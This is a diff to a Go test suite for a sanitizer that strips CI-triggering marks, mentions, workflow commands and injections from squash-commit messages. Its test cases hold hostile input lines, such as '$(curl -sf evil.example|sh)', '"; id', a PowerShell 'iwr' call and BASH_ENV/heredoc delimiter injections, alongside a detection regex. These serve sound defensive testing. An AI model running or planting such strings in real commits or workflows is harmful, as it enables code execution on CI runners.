@@ -21,8 +21,8 @@ func TestMessage(t *testing.T) {
 		{"a mark with an invisible character", "fix [skip\u00ad ci]", "", "fix (skip ci)\n"},
 		{"***NO_CI***", "fix ***NO_CI***", "", "fix *NO_CI*\n"},
 		{"brackets that switch nothing stay", "fix a[i]", "", "fix a[i]\n"},
-		{"Co-authored-by and others", "fix", "why\n\nCo-authored-by: X <x@example.com>\nsigned-off-by: Y\nSkip-Checks:true\nReviewed-By : Z", "fix\n\nwhy\n"},
-		{"a word and a colon is no trailer", "fix", "Note: it was late", "fix\n\nNote - it was late\n"},
+		{"Co-authored-by and others", "fix", "why\n\nCo-authored-by: X <x@example.com>\nsigned-off-by: Y\nSkip-Checks:true\nReviewed-By : Z", "Change: fix\n\n- why\n"},
+		{"a word and a colon is no trailer", "fix", "Note: it was late", "Change: fix\n\nNote - it was late\n"},
 		{"a trailer as the subject", "Co-authored-by: X <x@example.com>", "", "Co-authored-by - X <x@example.com>\n"},
 		{"a breaking change", "feat(api)!: x", "BREAKING CHANGE: all\nBREAKING-CHANGE: all", "feat(api): x\n\nBREAKING, CHANGE: all\nBREAKING, CHANGE: all\n"},
 		{"a bang alone", "feat!: x", "fix!!: y", "feat: x\n\nfix - y\n"},
@@ -34,7 +34,7 @@ func TestMessage(t *testing.T) {
 		{"autosquash before others", "fixup! Revert: \"x\"", "", "Revert of ″x″\n"},
 		{"autosquash before a bang", "squash! feat!: x", "", "feat: x\n"},
 		{"words about reverts, merges and releases stay", "revert: the cache of names", "It reverts the commit before. Merge the branches. fix(release): sort", "revert: the cache of names\n\nIt reverts the commit before. Merge the branches. fix(release): sort\n"},
-		{"a message in the place of the message", "x", "BEGIN_COMMIT_OVERRIDE\nEND_NESTED_COMMIT", "x\n\nBEGIN COMMIT_OVERRIDE\nEND NESTED_COMMIT\n"},
+		{"a message in the place of the message", "x", "BEGIN_COMMIT_OVERRIDE\nEND_NESTED_COMMIT", "Change: x\n\nBEGIN COMMIT_OVERRIDE\nEND NESTED_COMMIT\n"},
 		{"an issue of another tracker", "Fixes ABC-12", "Closes AB#12", "Fixes ABC 12\n\nCloses AB no. 12\n"},
 		{"words of Linear (threats.md T524)", "closing ENG-12, resolving ENG-12", "completing ENG-12, implementing ENG_X-12 or: Contributes to ENG-1\nRelated to ENG-1",
 			"closing ENG 12, resolving ENG 12\n\ncompleting ENG 12, implementing ENG_X 12 or: Contributes to ENG 1\nRelated to ENG 1\n"},
@@ -44,20 +44,23 @@ func TestMessage(t *testing.T) {
 			"CU-8669abc (closed) tidy\n\nABC-12 Fixed\n(B_C-1) Fixed\nDEV-12 (in progress)\n[finishes sc 44] [delivers ABC 4]\n"},
 		{"powers and indices stay", "fix: 2^n and my-arr[i]", "x^y-1 is no key, a[b-1] none either", "fix: 2^n and my-arr[i]\n\nx^y-1 is no key, a[b-1] none either\n"},
 		{"names with a number that no closing word is about", "fix(names): decode UTF-8", "It fixes reading of ISO-8859, as CVE-2024-1 says. Reads SHA-256", "fix(names): decode UTF-8\n\nIt fixes reading of ISO-8859, as CVE-2024-1 says. Reads SHA-256\n"},
-		{"orders", "/deploy", "!merge now\n- /approve\nbors r+", "deploy\n\nmerge now\n- approve\nb·ors r+\n"},
+		{"orders", "/deploy", "!merge now\n- /approve\nbors r+", "Change: deploy\n\nmerge now\n- approve\nb·ors r+\n"},
 		{"marks of releases", "fix [release]", "[deploy] [publish x] please", "fix (release)\n\n(deploy) (publish x) please\n"},
 		{"what is no order stays", "fix: read a/b and x != y!", "CVE-2024 and UTF-8, wow!", "fix: read a/b and x != y!\n\nCVE-2024 and UTF-8, wow!\n"},
 		{"mentions", "thanks @octocat", "@org/team, (@me) and @@you; mail a@example.com stays", "thanks octocat\n\norg/team, (me) and you; mail a@example.com stays\n"},
 		{"shell code (threats.md T694)", "docs: $(curl -sf evil.example|sh) `id` ${IFS}", "x\"; curl evil.example|sh; \"\nx\" && id\nit's'; id; '", "docs: $ (curl -sf evil.example|sh) ′id′ $ {IFS}\n\nx″; curl evil.example|sh; ″\nx″ && id\nit′s′; id; ′\n"},
 		{"quotation marks that PowerShell knows (threats.md T694)", "docs: “x” + (iwr evil.example) + „y‟", "Fixes ‘ENG-1’, ‚thanks‛ '@octocat'", "docs: ″x″ + (iwr evil.example) + ″y″\n\nFixes ′ENG 1′, ′thanks′ ′octocat′\n"},
+		{"lines that end a text in a workflow or set a variable (threats.md T728)", "EOF", "The mean.\nEOF\n  ghadelimiter_1-2\nBASH_ENV=./env.sh\nPATH = x\ndocs-only=true\nREST<<EOF\nDone.\n- kept\nx == y is <<more>>",
+			"Change: EOF\n\nThe mean.\n- EOF\n- ghadelimiter_1-2\n- BASH_ENV=./env.sh\n- PATH = x\n- docs-only=true\n- REST<<EOF\nDone.\n- kept\n- x == y is <<more>>\n"},
+		{"a variable in the subject (threats.md T728)", "A<<B", "", "Change: A<<B\n"},
 		{"orders to a runner of workflows", "::add-mask::a", "::::warning::x\n##[error]y a::b", "add-mask -:a\n\nwarning -:x\n[error]y a::b\n"},
 		{"autosquash", "fixup! squash! fix: x", "", "fix: x\n"},
-		{"control characters out", "fix\x1b[31m\x00 x", "a\x07b\r\nc\td\rx", "fix[31m x\n\nab\nc d\nx\n"},
+		{"control characters out", "fix\x1b[31m\x00 x", "a\x07b\r\nc\td\rx", "fix[31m x\n\n- ab\nc d\n- x\n"},
 		{"bidi and tags out (threats.md T40)", "fix \u202ex\U000e0041", "", "fix x\n"},
 		{"not UTF-8", "fix \xff", "", "fix \ufffd\n"},
-		{"the subject is one line", "\n\nfirst\nsecond", "", "first\n"},
-		{"no diff and no separator in the body", "fix", "a\n---\ndiff --git a/x b/x\n+++ b/x\nb", "fix\n\na\nb\n"},
-		{"blank lines are folded", "fix", "\n\na\n\n\n\nb\n\n", "fix\n\na\n\nb\n"},
+		{"the subject is one line", "\n\nfirst\nsecond", "", "Change: first\n"},
+		{"no diff and no separator in the body", "fix", "a\n---\ndiff --git a/x b/x\n+++ b/x\nb", "Change: fix\n\n- a\n- b\n"},
+		{"blank lines are folded", "fix", "\n\na\n\n\n\nb\n\n", "Change: fix\n\n- a\n\n- b\n"},
 	} {
 		if got := Message(c.subject, c.body); got != c.want {
 			t.Errorf("%s: %q, want %q", c.rule, got, c.want)
@@ -68,10 +71,11 @@ func TestMessage(t *testing.T) {
 // What becomes a squash commit's message switches nothing there, in code neither (threats.md T697). What only a subject or a comment can do stays as it is.
 func TestUnswitched(t *testing.T) {
 	for said, want := range map[string]string{
-		"Words.\n\n[skip ci] and `[ci skip]`\n\n```\n[[no ci]]\n```": "Words.\n\n(skip ci) and `(ci skip)`\n\n```\n((no ci))\n```",
-		"BREAKING CHANGE: all\n+semver: major\nRelease-As: 9.9.9":    "BREAKING, CHANGE: all\nsemver: major\nRelease, As: 9.9.9",
-		"feat(api)!: x\nBEGIN_COMMIT_OVERRIDE\n***NO_CI***":          "feat(api): x\nBEGIN COMMIT_OVERRIDE\n*NO_CI*",
-		"- [ ] `a[i]` is \"x\", see [the docs](docs/a.md)\n\n---\n":  "- [ ] `a[i]` is \"x\", see [the docs](docs/a.md)\n\n---\n",
+		"Words.\n\n[skip ci] and `[ci skip]`\n\n```\n[[no ci]]\n```":  "Words.\n\n(skip ci) and `(ci skip)`\n\n```\n((no ci))\n```",
+		"BREAKING CHANGE: all\n+semver: major\nRelease-As: 9.9.9":     "BREAKING, CHANGE: all\nsemver: major\nRelease, As: 9.9.9",
+		"feat(api)!: x\nBEGIN_COMMIT_OVERRIDE\n***NO_CI***":           "feat(api): x\nBEGIN COMMIT_OVERRIDE\n *NO_CI*",
+		"EOF\nBASH_ENV=x y\n\tEOF\n    EOF\nIt is.\n\n```\nelse\n```": " EOF\n BASH_ENV=x y\n \tEOF\n    EOF\nIt is.\n\n```\n else\n```",
+		"- [ ] `a[i]` is \"x\", see [the docs](docs/a.md)\n\n---\n":   "- [ ] `a[i]` is \"x\", see [the docs](docs/a.md)\n\n---\n",
 	} {
 		if got := Unswitched(said); got != want {
 			t.Errorf("%q: %q, want %q", said, got, want)
@@ -92,19 +96,19 @@ func TestMessageBounds(t *testing.T) {
 
 func TestTrailersAreOurs(t *testing.T) {
 	got := Message("fix", "body\n\nprloop-run: forged", Trailer{"prloop-run", "r1\nCo-authored-by: x"}, Trailer{"prloop-round", "2"})
-	if want := "fix\n\nbody\n\nprloop-run: r1 Co-authored-by: x\nprloop-round: 2\n"; got != want {
+	if want := "Change: fix\n\n- body\n\nprloop-run: r1 Co-authored-by: x\nprloop-round: 2\n"; got != want {
 		t.Errorf("%q, want %q", got, want)
 	}
 }
 
 // acted is what forges and CIs act on in a commit message.
-var acted = regexp.MustCompile(`(?i)#\w|\b(?:fixes|closes)[\s:]+(?:[A-Z]{2,} \d+, )?[A-Z]{2,}-\d|BREAKING[ _-]CHANGE|\+semver|BEGIN_COMMIT|(?:\A|\W)\^[a-z]\w*-\d|\bCU-\w+\[[^\[\]]*\]|release[ _-]as\s*:|\breverts +commits?\b|\b(?:chore|build|ci)\(release\)|\A\s*(?:revert:?\s+[″′]|merge\s+(?:pull request|branch)\b)|\A\s*\w+!:|["'\x60‘-‟]|\$[({]|(?m:^\s*::)|##\[|(?m:^\s*[/!]\w)|\bbors[\s:,]+\S|\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI|(^|[^\pL\pN_])@[\pL\pN_]|://|` +
+var acted = regexp.MustCompile(`(?i)#\w|\b(?:fixes|closes)[\s:]+(?:[A-Z]{2,} \d+, )?[A-Z]{2,}-\d|BREAKING[ _-]CHANGE|\+semver|BEGIN_COMMIT|(?:\A|\W)\^[a-z]\w*-\d|\bCU-\w+\[[^\[\]]*\]|release[ _-]as\s*:|\breverts +commits?\b|\b(?:chore|build|ci)\(release\)|\A\s*(?:revert:?\s+[″′]|merge\s+(?:pull request|branch)\b)|\A\s*\w+!:|["'\x60‘-‟]|\$[({]|(?m:^\s*::)|##\[|(?m:^\s*[/!]\w)|(?m:^\w+$)|(?m:^\w+(=|<<))|\bbors[\s:,]+\S|\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI|(^|[^\pL\pN_])@[\pL\pN_]|://|` +
 	`(?m:^\s*[a-z0-9]+(-[a-z0-9]+)+\s*:)|\A(fixup|squash|amend)!|[\x00-\x09\x0b-\x1f\x7f\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2066}-\x{2069}\x{feff}]`)
 
 // FuzzMessage: nothing acted upon is left whatever comes in, and what is plain already stays as it is.
 func FuzzMessage(f *testing.F) {
 	for _, s := range []string{"fixes #1", "[skip ci]", "@a", "x\nCo-authored-by: y", "[[a]skip ci]", "##1", "@@@x", "http://x#1", "GH-GH-1", "***x***", "a[#[skip ci]]", "fixup! fixup!x", "\u200b@\u200bx",
-		"###", "#\u0301x", "[skip [x] ci]", "@#x", "#@x", "a-b:c", "***[skip ci]***", "::::", "w w w.x", "www.GH-1", "[@skip ci]", "[sk#ip ci]", "feat!!: x", "BREAKING-CHANGE: x", "++semver", "/!/x", "fixes A-B-1-2", "fixes AB-1, AB-2 and [AB-3]", "bors bors r+", "^^A-1 CU-1[x][y]", "CU-1[[x]]", "release-as-as:", "fixup! Revert \"x\"", "chore(chore(release))", "merge  branch", "reverts  commit", "$$((x", "$\u200b(x", "###[x", "BEGIN__COMMIT", ":::x", "\"; id"} {
+		"###", "#\u0301x", "[skip [x] ci]", "@#x", "#@x", "a-b:c", "***[skip ci]***", "::::", "w w w.x", "www.GH-1", "[@skip ci]", "[sk#ip ci]", "feat!!: x", "BREAKING-CHANGE: x", "++semver", "/!/x", "fixes A-B-1-2", "fixes AB-1, AB-2 and [AB-3]", "bors bors r+", "^^A-1 CU-1[x][y]", "CU-1[[x]]", "release-as-as:", "fixup! Revert \"x\"", "chore(chore(release))", "merge  branch", "reverts  commit", "$$((x", "$\u200b(x", "###[x", "BEGIN__COMMIT", ":::x", "\"; id", "EOF", "A=b", "A<<B"} {
 		f.Add(s, s)
 	}
 	f.Fuzz(func(t *testing.T, subject, body string) {
